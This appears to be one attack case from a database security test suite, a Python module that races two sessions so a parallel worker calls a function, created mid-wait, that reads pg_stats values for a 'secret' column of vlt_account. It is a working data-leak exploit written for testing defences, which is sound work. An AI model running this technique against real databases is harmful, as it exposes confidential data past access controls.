"""Reads statistics in a worker, by a function that another session makes while a block waits."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"
SETUP = "ANALYZE vlt_account"
WAITS = b"""DO $$ DECLARE x text; BEGIN
  PERFORM set_config(name, 'on', true) FROM pg_settings
    WHERE name IN ('force_parallel_mode', 'debug_parallel_query');
  PERFORM pg_sleep(1);
  EXECUTE 'SELECT pe' || 'ek()' INTO x;
  RAISE NOTICE '%', x;
END $$"""
MAKES = b"""CREATE FUNCTION peek() RETURNS text PARALLEL SAFE LANGUAGE plpgsql AS $$ BEGIN
  RETURN (SELECT most_common_vals::text FROM pg_stats
    WHERE tablename = 'vlt_account' AND attname = 'secret');
END $$"""


def attack(server: Server) -> bytes:
    with server.login() as client, server.login() as other:
        client.send(query(WAITS))
        ask(other, query(b"SELECT pg_sleep(0.3)"))
        ask(other, query(MAKES))
        return ask(client, b"")
